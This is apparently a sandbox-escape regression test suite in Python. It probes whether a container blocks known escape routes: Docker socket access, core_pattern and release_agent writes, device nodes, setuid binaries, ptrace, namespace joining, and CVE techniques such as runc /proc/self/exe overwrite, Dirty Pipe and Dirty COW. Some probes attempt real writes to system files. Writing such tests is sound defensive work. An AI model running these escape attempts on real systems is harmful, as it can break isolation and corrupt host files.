# Attacks that escaped from other sandboxes: the scenarios of SandboxEscapeBench and
# regressions of known vulnerabilities. Each opens what the escape would write to and
# changes nothing.
import glob
import socket
import stat
import struct
import subprocess
import tempfile
import threading


def docker_socket():
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", A["socket"]):
        def talk():
            s = socket.socket(socket.AF_UNIX)
            try:
                s.settimeout(1)
                s.connect(path)
                s.sendall(b"GET /version HTTP/1.0\r\n\r\n" + A["nonce"].encode())
                look(s.recv(4096))
            finally:
                s.close()
        refused("request to " + path, talk)


def core_pattern():
    refused("open core_pattern", openable, "/proc/sys/kernel/core_pattern")
    try:
        value("core_pattern", get("/proc/sys/kernel/core_pattern").decode().strip())
    except OSError as e:
        held("read core_pattern: %s" % e)


def kernel_helpers():
    for path in ("/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper", "/proc/sysrq-trigger", "/proc/sys/fs/binfmt_misc/register",
                 "/proc/sys/kernel/hotplug", "/proc/sys/vm/overcommit_memory", "/proc/sys/vm/drop_caches", "/proc/sys/kernel/panic",
                 "/proc/sys/kernel/randomize_va_space", "/proc/sys/kernel/ns_last_pid", "/proc/sys/net/ipv4/ip_forward",
                 "/proc/sys/kernel/yama/ptrace_scope", "/sys/power/state", "/sys/kernel/mm/ksm/run", "/proc/mtrr", "/proc/irq/0/smp_affinity"):
        refused("open " + path, openable, path)


def sysctl_sweep():
    opened = []
    for directory, _, files in os.walk("/proc/sys"):
        if directory.startswith("/proc/sys/net") or directory.startswith("/proc/sys/user"):
            continue  # the box's own
        for name in files:
            path = os.path.join(directory, name)
            try:
                openable(path)
            except OSError as e:
                held("%s: %s" % (path, e))
            else:
                opened.append(path)
    if opened:
        broke("settings of the kernel can be opened for writing: %s" % opened[:8])
    held("settings are closed")


def release_agent():
    for path in glob.glob("/sys/fs/cgroup/*/release_agent") + glob.glob("/sys/fs/cgroup/release_agent") + ["/sys/fs/cgroup/memory/release_agent"]:
        refused("open " + path, openable, path)
    for kind, options in (("cgroup", "memory"), ("cgroup", "rdma"), ("cgroup2", None)):
        where = tempfile.mkdtemp()
        refused("mount %s" % kind, mount, kind, where, kind, 0, options)


def own_cgroup():
    for path in ("/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
                 "/sys/fs/cgroup/cpu/cpu.cfs_quota_us", "/sys/fs/cgroup/pids/pids.max"):
        refused("open " + path, openable, path)


def block_devices():
    for major, minor, name in ((8, 0, "sda"), (8, 1, "sda1"), (253, 0, "dm-0"), (254, 0, "vda"), (259, 0, "nvme0n1"), (7, 0, "loop0")):
        path = os.path.abspath(name)
        def read():
            os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(major, minor))
            return get(path, 512)
        refused("read a device node for %s" % name, read)
    for path in glob.glob("/dev/sd*") + glob.glob("/dev/vd*") + glob.glob("/dev/nvme*") + glob.glob("/dev/dm-*") + glob.glob("/dev/mapper/*"):
        refused("open " + path, openable, path, os.O_RDONLY)


def character_devices():
    for major, minor, name in ((1, 1, "mem"), (1, 2, "kmem"), (1, 4, "port"), (1, 11, "kmsg"), (10, 232, "kvm"), (10, 237, "loop-control"), (10, 183, "hwrng")):
        path = os.path.abspath(name)
        def read():
            os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(major, minor))
            return openable(path, os.O_RDONLY)
        refused("open a device node for %s" % name, read)
    for name in ("mem", "kmem", "port", "kmsg", "kvm", "vhost-net", "vhost-vsock", "uinput", "userfaultfd", "cpu_dma_latency", "snapshot", "btrfs-control", "vfio/vfio", "dri/card0"):
        refused("open /dev/" + name, openable, "/dev/" + name, os.O_RDONLY)


def capabilities():
    status = get("/proc/self/status").decode()
    for line in status.splitlines():
        name, _, rest = line.partition(":")
        if name in ("CapEff", "CapPrm", "CapAmb", "CapInh"):
            if int(rest, 16):
                broke("user code has capabilities: %s" % line)
            held(line)
        if name == "NoNewPrivs":
            value("no_new_privs", rest.strip())
    for uid in (0, 1, 65534):
        refused("become user %d" % uid, syscall, "setresuid", uid, uid, uid)


def setuid_programs():
    found = []
    for directory in ("/usr/bin", "/usr/sbin", "/bin", "/sbin", "/usr/lib", "/usr/libexec"):
        for top, _, files in os.walk(directory):
            for name in files:
                try:
                    st = os.lstat(os.path.join(top, name))
                except OSError:
                    continue
                if stat.S_ISREG(st.st_mode) and st.st_mode & (stat.S_ISUID | stat.S_ISGID):
                    found.append(os.path.join(top, name))
            if directory.startswith("/usr/lib") and top.count("/") > 4:
                break
    value("setuid", len(found))
    copy = os.path.abspath("own-id")
    for program in ("/usr/bin/id",):
        subprocess.run(["cp", program, copy], check=True)
        tried("set the setuid bit", os.chmod, copy, 0o6755)
    for program in [copy] + [p for p in found if os.path.basename(p) in ("su", "sudo", "mount", "newgrp", "passwd")]:
        args = {"su": ["su", "-c", "id -u"], "sudo": ["sudo", "-n", "id", "-u"]}.get(os.path.basename(program), [program, "-u"])
        try:
            r = subprocess.run([program] + args[1:], capture_output=True, stdin=subprocess.DEVNULL, timeout=5)
        except (OSError, subprocess.TimeoutExpired) as e:
            held("%s: %s" % (program, e))
            continue
        out = r.stdout.strip()
        if out == b"0":
            broke("%s gave the user of the box root in it" % program)
        held("%s: %r" % (program, out))


def kernel_modules():
    module = open("m.ko", "wb+")
    module.write(b"\x7fELF" + bytes(60))
    refused("init_module", syscall, "init_module", b"\x7fELF" + bytes(60), 64, b"")
    refused("finit_module", syscall, "finit_module", module.fileno(), b"", 0)
    refused("delete_module", syscall, "delete_module", b"ext4", 0)
    refused("kexec_load", syscall, "kexec_load", 0, 0, 0, 0)
    refused("kexec_file_load", syscall, "kexec_file_load", module.fileno(), -1, 0, 0, 0)


def dangerous_calls():
    attr = ctypes.create_string_buffer(128)
    struct.pack_into("II", attr, 0, 1, 128)
    refused("perf_event_open", syscall, "perf_event_open", ctypes.byref(attr), 0, -1, -1, 0)
    prog = ctypes.create_string_buffer(128)
    refused("bpf", syscall, "bpf", 5, ctypes.byref(prog), 128)
    refused("userfaultfd", syscall, "userfaultfd", 0)
    refused("io_uring_setup", syscall, "io_uring_setup", 8, ctypes.byref(ctypes.create_string_buffer(120)))
    refused("add_key", syscall, "add_key", b"user", b"x", b"y", 1, -3)
    refused("request_key", syscall, "request_key", b"user", b"x", 0, -3)
    refused("fanotify_init", syscall, "fanotify_init", 0, 0)
    refused("open_by_handle_at", syscall, "open_by_handle_at", -100, ctypes.byref(ctypes.create_string_buffer(64)), 0)
    refused("iopl", syscall, "iopl", 3)
    refused("acct", syscall, "acct", b"/tmp/acct")
    refused("swapon", syscall, "swapon", b"/tmp/swap", 0)
    refused("reboot", syscall, "reboot", 0xfee1dead, 672274793, 0x89ABCDEF, 0)  # CAD off: no reboot if it works
    refused("memfd_secret", syscall, "memfd_secret", 0)


def clock():
    now = time.time()
    spec = struct.pack("qq", int(now) - 86400 * 365, 0)
    refused("clock_settime", syscall, "clock_settime", 0, spec)
    refused("settimeofday", syscall, "settimeofday", spec, 0)


def host_name():
    refused("sethostname", syscall, "sethostname", A["nonce"].encode(), len(A["nonce"]))
    refused("setdomainname", syscall, "setdomainname", A["nonce"].encode(), len(A["nonce"]))


def mounts():
    where = tempfile.mkdtemp()
    refused("mount tmpfs", mount, "none", where, "tmpfs")
    refused("mount proc", mount, "proc", where, "proc")
    refused("bind /", mount, "/", where, None, MS_BIND)
    refused("remount / writable", mount, None, "/", None, MS_REMOUNT | MS_BIND)
    refused("remount /usr writable", mount, None, "/usr", None, MS_REMOUNT | MS_BIND)
    refused("unmount /proc", syscall, "umount2", b"/proc", 2)
    refused("pivot_root", syscall, "pivot_root", where.encode(), where.encode())
    refused("chroot", os.chroot, where)
    refused("fsopen", syscall, "fsopen", b"tmpfs", 0)
    refused("open_tree", syscall, "open_tree", -100, b"/", 1)


def remount_as_root():
    """Remounts everything writable and writes, as the root of the box."""
    for line in get("/proc/self/mountinfo").decode().splitlines():
        point = line.split()[4]
        tried("remount %s writable" % point, mount, None, point, None, MS_REMOUNT | MS_BIND)
    for directory in A["mark_dirs"]:
        tried("write in " + directory, lambda: open(os.path.join(directory, A["mark"]), "w").write(A["nonce"]))
    where = tempfile.mkdtemp()
    tried("mount proc", mount, "proc", where, "proc")
    tried("mount sysfs", mount, "sysfs", where, "sysfs")
    tried("mount devtmpfs", mount, "devtmpfs", where, "devtmpfs")
    for path in (where + "/sda", where + "/kmsg", where + "/sys/kernel/core_pattern", where + "/kernel/uevent_helper"):
        refused("open " + path, openable, path)
    look(get("/proc/self/mountinfo"))


def other_namespaces():
    for pid in ("1", str(os.getppid())):
        for kind in ("mnt", "pid", "net", "user", "ipc", "uts"):
            path = "/proc/%s/ns/%s" % (pid, kind)
            try:
                fd = os.open(path, os.O_RDONLY)
            except OSError as e:
                held("%s: %s" % (path, e))
                continue
            refused("setns " + path, syscall, "setns", fd, 0)
            os.close(fd)


def ptrace_agent():
    for pid in (1, os.getppid()):
        refused("ptrace %d" % pid, syscall, "ptrace", 16, pid, 0, 0)  # PTRACE_ATTACH
        refused("seize %d" % pid, syscall, "ptrace", 0x4206, pid, 0, 0)
        refused("open mem of %d" % pid, openable, "/proc/%d/mem" % pid, os.O_RDWR)
        refused("environ of %d" % pid, get, "/proc/%d/environ" % pid)
        local = ctypes.create_string_buffer(16)
        iov = struct.pack("QQ", ctypes.addressof(local), 16)
        remote = struct.pack("QQ", 0x400000, 16)
        refused("read memory of %d" % pid, syscall, "process_vm_readv", pid, iov, 1, remote, 1, 0)
        refused("write memory of %d" % pid, syscall, "process_vm_writev", pid, iov, 1, remote, 1, 0)
        refused("signal %d" % pid, os.kill, pid, signal.SIGSTOP)


def steal_descriptors():
    for pid in (1, os.getppid()):
        for fd in (0, 1, 2):
            def duplicate():
                handle = syscall("pidfd_open", pid, 0)
                return syscall("pidfd_getfd", handle, fd, 0)
            refused("pidfd_getfd %d of %d" % (fd, pid), duplicate)
            refused("open descriptor %d of %d" % (fd, pid), openable, "/proc/%d/fd/%d" % (pid, fd), os.O_RDWR)


def inherited_descriptors():
    """CVE-2024-21626: a descriptor of the host leaks into the box."""
    names = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            names.append((int(fd), os.readlink("/proc/self/fd/" + fd)))
        except OSError:
            continue
    for fd, name in names:
        st = os.fstat(fd) if fd != max(n[0] for n in names) else None
        if st and stat.S_ISDIR(st.st_mode):
            broke("descriptor %d is a directory: %s" % (fd, name))
        elif fd > 2 and not name.startswith(("pipe:", "/proc/", "host:", "anon_inode:")):
            broke("descriptor %d was inherited: %s" % (fd, name))
        held("descriptor %d is %s" % (fd, name))
    for fd in range(3, 32):
        for up in ("..", "../../../../../.."):
            try:
                os.chdir("/proc/self/fd/%d" % fd)
                os.chdir(up)
                look(" ".join(os.listdir(".")))
                if os.path.exists(A["secret_file"].lstrip("/")):
                    broke("the host's files are reachable from descriptor %d" % fd)
            except OSError as e:
                held("descriptor %d: %s" % (fd, e))
    os.chdir("/")


def overwrite_runtime():
    """CVE-2019-5736: the runtime is overwritten through /proc/*/exe."""
    for pid in ["self", "1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()][:20]:
        path = "/proc/%s/exe" % pid
        try:
            target = os.readlink(path)
        except OSError as e:
            held("%s: %s" % (path, e))
            continue
        tried("%s (%s)" % (path, target), openable, path, os.O_WRONLY)
    for path in ("/proc/1/exe", "/glovebox", "/agent", "/sbin/init"):
        refused("open " + path, openable, path, os.O_WRONLY)
    if os.path.exists("/proc/%d/exe" % A["host_pid"]) and A["host_pid"] > 1000:
        refused("the host's program", openable, "/proc/%d/exe" % A["host_pid"], os.O_RDONLY)


def masked_paths():
    """CVE-2025-31133: /dev/null is replaced while a path is masked with it."""
    refused("remove /dev/null", os.remove, "/dev/null")
    refused("replace /dev/null", os.symlink, "/proc/sys/kernel/core_pattern", "/dev/null")
    refused("replace /dev/null by renaming", os.rename, "/dev/null", "/dev/null2")
    st = os.stat("/dev/null")
    if not stat.S_ISCHR(st.st_mode) or st.st_rdev != os.makedev(1, 3):
        broke("/dev/null is not the null device")
    held("/dev/null is the null device")


def console_mount():
    """CVE-2025-52565: /dev/console is bound over a link to a file of procfs."""
    refused("replace /dev/console", os.symlink, "/proc/sysrq-trigger", "/dev/console")
    refused("replace /dev/pts", os.rename, "/dev/pts", "/dev/pts2")
    refused("remove /dev/ptmx", os.remove, "/dev/ptmx")


def misdirected_writes():
    """CVE-2025-52881: writes of the runtime to /proc are sent elsewhere."""
    for name in ("attr/exec", "attr/current", "oom_score_adj", "uid_map"):
        for path in ("/proc/1/" + name, "/proc/%d/%s" % (os.getppid(), name)):
            refused("open " + path, openable, path)
    refused("a mount over /proc/self", mount, "none", "/proc/self", "tmpfs")
    refused("a link in /proc", os.symlink, "/proc/sysrq-trigger", "/proc/attack")


def dirty_pipe():
    """CVE-2022-0847: a read-only file is overwritten through a pipe."""
    path = "/usr/lib/os-release" if os.path.exists("/usr/lib/os-release") else "/etc/passwd"
    before = get(path)
    fd = os.open(path, os.O_RDONLY)
    r, w = os.pipe()
    size = 65536
    os.set_blocking(w, False)
    try:
        while True:
            os.write(w, bytes(4096))
    except BlockingIOError:
        pass
    os.set_blocking(r, False)
    try:
        while os.read(r, size):
            pass
    except BlockingIOError:
        pass
    os.splice(fd, w, 1, offset_src=0)
    os.write(w, A["nonce"].encode())
    if get(path) != before:
        broke("%s was changed through a pipe" % path)
    held("%s is unchanged" % path)


def dirty_cow():
    """CVE-2016-5195: a private mapping of a read-only file is written through."""
    import mmap
    path = "/usr/lib/os-release" if os.path.exists("/usr/lib/os-release") else "/etc/passwd"
    before = get(path)
    fd = os.open(path, os.O_RDONLY)
    m = mmap.mmap(fd, 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
    end = time.time() + 1.0
    def discard():
        while time.time() < end:
            m.madvise(mmap.MADV_DONTNEED)
    def write():
        mem = os.open("/proc/self/mem", os.O_RDWR)
        base = [int(l.split("-")[0], 16) for l in open("/proc/self/maps") if path in l]
        while base and time.time() < end:
            try:
                os.lseek(mem, base[0], 0)
                os.write(mem, A["nonce"].encode())
            except OSError:
                pass
        os.close(mem)
    threads = [threading.Thread(target=f) for f in (discard, write)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    if get(path) != before:
        broke("%s was changed through a private mapping" % path)
    held("%s is unchanged" % path)


def vdso():
    """A write to the shared page of the kernel would change it for every process."""
    for line in open("/proc/self/maps"):
        if "[vdso]" in line or "[vvar]" in line or "[vsyscall]" in line:
            start = int(line.split("-")[0], 16)
            def write():
                with open("/proc/self/mem", "rb+", buffering=0) as mem:
                    mem.seek(start)
                    return mem.write(b"\x90")
            tried("write " + line.split()[-1], write)
    held("pages of the kernel")


def file_handles():
    """Shocker: a file of the host is opened by guessing its handle."""
    fd = os.open("/", os.O_RDONLY)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    tried("name_to_handle_at", syscall, "name_to_handle_at", fd, b".", handle, ctypes.byref(mount_id), 0)
    for inode in range(1, 64):
        guess = struct.pack("Iiqq", 8, 1, inode, 0)
        refused("open_by_handle_at %d" % inode, syscall, "open_by_handle_at", fd, guess, 0)


def parent_directories():
    """Leaves the root by changing to parents of moved and detached directories."""
    home = os.getcwd()
    os.makedirs("a/b/c/d", exist_ok=True)
    fd = os.open("a/b/c/d", os.O_RDONLY)
    os.rename("a/b", "moved")
    os.fchdir(fd)
    for _ in range(64):
        os.chdir("..")
    if os.path.exists("." + A["secret_file"]):
        broke("the host's files are above the root")
    os.chdir(home)
    os.makedirs("x/y")
    os.chdir("x/y")
    os.rmdir(home + "/x/y")
    os.rmdir(home + "/x")
    for up in ("..", "../../..", "../" * 30):
        try:
            look(" ".join(os.listdir(up)))
            if os.path.exists(up + A["secret_file"]):
                broke("the host's files are reachable from a removed directory")
        except OSError as e:
            held("%s: %s" % (up, e))
    os.chdir("/")
    held("nothing above the root")


def magic_links():
    for pid in ("self", "thread-self", "1", str(os.getppid())):
        for name in ("root", "cwd", "exe", "map_files", "fdinfo", "task/1/root"):
            for path in ("/proc/%s/%s%s" % (pid, name, A["secret_file"]), "/proc/%s/%s/../../..%s" % (pid, name, A["secret_file"])):
                try:
                    look(get(path))
                except OSError as e:
                    held("%s: %s" % (path, e))
                else:
                    broke("%s was read" % path)


def subpath_race():
    """CVE-2017-1002101 and CVE-2021-25741: a directory becomes a link while it is used."""
    os.makedirs("dir", exist_ok=True)
    open("dir/secret", "w").write("box\n")
    target = os.path.dirname(A["secret_file"])

    def swap():
        os.rename("dir", "dir.old")
        os.symlink(target, "dir")
        os.remove("dir")
        os.rename("dir.old", "dir")

    def read():
        data = get("dir/secret")
        if data != b"box\n":
            look(data)
            broke("a file of the host was read through a swapped directory")
            return True
    held("%d reads" % race(1.5, swap, read))


def loader_variables():
    code = os.path.abspath("libattack.so")
    open(code, "w").write("not a library")
    for name in ("LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "PYTHONSTARTUP", "NODE_OPTIONS", "BASH_ENV", "ENV"):
        os.environ[name] = code
    for path in ("/etc/ld.so.preload", "/etc/ld.so.conf.d/attack.conf", "/etc/profile.d/attack.sh", "/etc/environment"):
        refused("write " + path, lambda: open(path, "w"))
    held("variables are set for the next command")


def random_calls():
    """Random system calls with random arguments, in children."""
    import random
    seed = int.from_bytes(os.urandom(4), "big")
    value("seed", seed)
    random.seed(seed)
    interesting = (0, 1, -1, 2, 3, 4095, 4096, 1 << 31, 1 << 32, (1 << 63) - 1, 0xFFFFFFFFFFFFF000, 0x7FFFFFFFF000)
    skip = {56, 57, 58, 435, 219, 220, 60, 231, 93, 94, 34, 73, 72, 61, 247, 260, 95}  # fork, exit, pause, wait
    page = ctypes.create_string_buffer(os.urandom(4096), 8192)
    where = ctypes.addressof(page)
    end = time.time() + 4
    runs = 0
    while time.time() < end:
        pid = os.fork()
        if pid == 0:
            signal.alarm(1)
            for fd in (1, 2, _report):
                os.close(fd)
            for _ in range(200):
                number = random.randrange(0, 470)
                if number in skip:
                    continue
                args = [ctypes.c_long(random.choice(interesting + (where, where + random.randrange(4096), random.randrange(1 << 16)))) for _ in range(6)]
                libc.syscall(ctypes.c_long(number), *args)
            os._exit(0)
        os.waitpid(pid, 0)
        runs += 1
    held("%d rounds of 200 calls" % runs)
